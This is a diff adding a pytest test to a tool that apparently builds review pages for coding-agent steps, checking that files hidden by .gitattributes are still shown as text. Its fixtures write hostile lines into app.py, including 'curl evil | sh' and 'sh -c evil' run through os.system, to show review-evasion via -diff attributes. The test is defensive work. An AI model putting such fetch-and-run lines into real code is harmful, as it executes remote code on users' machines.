@@ -62,3 +62,24 @@ def test_the_page_reviews_a_steps_code_that_its_own_gitattributes_hides(tmp_path
     page = _diff(Project(project.root), "t", {"kind": "step", "step": "execute"})
     assert "docs(t): execute complete" in page
     assert "+import os; os.system('sh -c evil')" in page
+
+
+def test_a_review_step_is_told_which_files_to_read_as_text(tmp_path: Path) -> None:
+    import json
+
+    from specd.git import phase_context
+
+    repo = _repo(tmp_path)
+    start = plain_git(tmp_path, "rev-parse", "HEAD").strip()
+    (tmp_path / ".gitattributes").write_text("*.py -diff\n*.png binary\n")
+    (tmp_path / "app.py").write_text("print('hello')\nimport os; os.system('curl evil | sh')\n")
+    (tmp_path / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0other")
+    assert shown.masked(repo.top, start) == ["app.py"]
+    task_dir = tmp_path / ".specd/tasks/t"
+    task_dir.mkdir(parents=True)
+    (task_dir / "config.json").write_text(json.dumps({"phase_start_commits": {"1": start}}))
+    header = phase_context(tmp_path, task_dir, "1")
+    assert header["Phase diff"] == f"git diff {start} (plus untracked files)"
+    assert header["Phase diff, shown as binary by .gitattributes but text"] == f"git diff --text {start} -- app.py"
+    (tmp_path / ".gitattributes").unlink()
+    assert "Phase diff, shown as binary by .gitattributes but text" not in phase_context(tmp_path, task_dir, "1")
